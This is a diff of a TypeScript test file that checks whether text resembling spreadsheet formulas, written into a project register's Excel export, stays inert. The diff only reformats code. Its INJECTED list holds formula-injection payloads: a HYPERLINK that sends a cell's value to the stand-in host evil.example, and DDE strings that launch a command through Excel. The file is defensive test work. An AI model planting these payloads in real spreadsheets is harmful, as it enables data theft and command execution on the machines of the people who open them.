@@ -9,20 +9,20 @@ import { FileWorkbook } from "../../src/host/file/fileWorkbook";
 import { allCells, packageParts, readBack, registerBytes, sheetParts } from "./registerFixture";
 
 // What an attacker types into a register that is later opened in Excel.
-const INJECTED = [
-  '=HYPERLINK("http://evil.example/?d="&A1,"Klikk her")',
-  "+cmd|' /C calc'!A0",
-  "@SUM(1+1)*cmd|' /C calc'!A0",
-  "-1+1",
-];
+const INJECTED = ['=HYPERLINK("http://evil.example/?d="&A1,"Klikk her")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-1+1"];
 const pick = (i: number) => INJECTED[i % INJECTED.length];
 
 async function hostileRegister(): Promise<Uint8Array> {
   return registerBytes({
     Tiltak: INJECTED.map((_, i) => ({ ID: `T-${i + 1}`, Navn: pick(i), Eier: pick(i + 1), Segment: "Samstyring", Hovedmål: 1 })),
     Rapporter: INJECTED.map((_, i) => ({
-      ID: `T-${i + 1}`, Periode: "2023-Q2", Fase: "Aktiv",
-      Status: "Rød", Statusbegrunnelse: pick(i + 2), Risiko: "Rød", Risikobegrunnelse: pick(i + 3),
+      ID: `T-${i + 1}`,
+      Periode: "2023-Q2",
+      Fase: "Aktiv",
+      Status: "Rød",
+      Statusbegrunnelse: pick(i + 2),
+      Risiko: "Rød",
+      Risikobegrunnelse: pick(i + 3),
     })),
   });
 }
@@ -44,7 +44,11 @@ function expectInert({ cells, parts }: Awaited<ReturnType<typeof injectedCells>>
     expect(here.length).toBeGreaterThanOrEqual(least);
   }
   expect(cells.filter((c) => c.type !== ExcelJS.ValueType.String)).toEqual([]);
-  expect(sheetParts(parts).filter(([, xml]) => /<f[ >]/.test(xml)).map(([path]) => path)).toEqual([]);
+  expect(
+    sheetParts(parts)
+      .filter(([, xml]) => /<f[ >]/.test(xml))
+      .map(([path]) => path),
+  ).toEqual([]);
 }
 
 describe("text that looks like a formula", () => {
